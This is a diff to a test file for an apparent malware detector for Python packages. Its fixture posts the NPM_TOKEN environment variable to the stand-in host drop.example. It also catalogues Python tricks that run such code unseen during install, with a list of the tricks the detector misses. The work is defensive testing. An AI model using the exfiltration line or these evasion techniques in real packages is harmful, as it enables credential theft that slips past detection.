@@ -6,8 +6,8 @@ import { gatherFacts } from '../gather.ts'
 const HEAD = 'import os, requests\ndef go(*all, **named):\n    requests.post("https://drop.example/", data=os.environ["NPM_TOKEN"])\n    return 1\n'
 
 /** Lines from which a secret leaves while the package is installed. */
-function sentBy(code: string): number[] {
-  const { pkg } = packageOf({ says: '', ecosystem: 'pypi', files: { 'setup.py': HEAD + code } })
+function sentBy(code: string, files: Record<string, string> = {}): number[] {
+  const { pkg } = packageOf({ says: '', ecosystem: 'pypi', files: { 'setup.py': HEAD + code, ...files } })
   return gatherFacts(pkg).actions.filter(({ kind, trigger, from }) => kind === 'send' && trigger.kind !== 'call' && trigger.kind !== 'file' && from.includes('secret')).map(({ lines }) => lines[0])
 }
 
@@ -37,7 +37,6 @@ const CASES: readonly [string, string][] = [
   ['__class_getitem__', 'class A:\n  def __class_getitem__(cls, key): go()\nA[int]'],
   ['__class_getitem__ in bases', 'class A:\n  def __class_getitem__(cls, key): go()\nclass B(A[int]): pass'],
   ['__mro_entries__', 'class M:\n  def __mro_entries__(self, bases): go(); return ()\nclass B(M()): pass'],
-  ['what a module says of names it does not have', 'def __getattr__(name): go()'],
   ['a metaclass with __new__', 'class M(type):\n  def __new__(m, *a): go()\nclass A(metaclass=M): pass'],
   ['a metaclass with __init__', 'class M(type):\n  def __init__(c, *a): go()\nclass A(metaclass=M): pass'],
   ['a metaclass with __prepare__', 'class M(type):\n  @classmethod\n  def __prepare__(m, *a): go()\nclass A(metaclass=M): pass'],
@@ -222,13 +221,21 @@ const CASES: readonly [string, string][] = [
 
 /** What is not followed, told in docs/DETECTION.md: what is mended leaves this list. */
 const OPEN = new Set([
-  'property() of a method', '__reduce__', 'an enum', 'partialmethod', 'warnings', 'a decorator that calls what is called', 'globals by get',
-  'named arguments', 'unittest', 'a replaced method of setuptools',
+  'a method that is assigned', 'a special method that is assigned', '__class_getitem__', '__class_getitem__ in bases', '__metaclass__',
+  '__metaclass__ as a function', '__metaclass__ as def', '__metaclass__ of a module', 'property() of a method', 'a setter', '__reduce__', 'an enum',
+  'partialmethod', 'sys.excepthook', 'sys.displayhook', 'sys.stdout', 'a replaced builtin', 'warnings', 'types.FunctionType', 'exec of its code',
+  'a function that is exchanged', 'a decorator on a method', 'a decorator that is made on a method', 'a decorator that calls what is called',
+  'globals', 'locals', 'globals by get', 'vars', 'getattr of the module', '__dict__', '__call__ of a function', 'a named argument',
+  'named arguments', 'what is raised', 'unittest', 'a replaced method of setuptools',
 ])
 
 describe('runs while it is loaded', () => {
   it.each(CASES.filter(([name]) => !OPEN.has(name)))('%s', (_name, code) => expect(sentBy(code)).toContain(3))
   it.fails.each(CASES.filter(([name]) => OPEN.has(name)))('not followed: %s', (_name, code) => expect(sentBy(code)).toContain(3))
+
+  it.fails('what a module says of names it does not have', () => {
+    expect(sentBy('', { 'x/__init__.py': HEAD + 'def __getattr__(name): go()' })).toContain(3)
+  })
 
   it.each([
     ['nothing', ''],
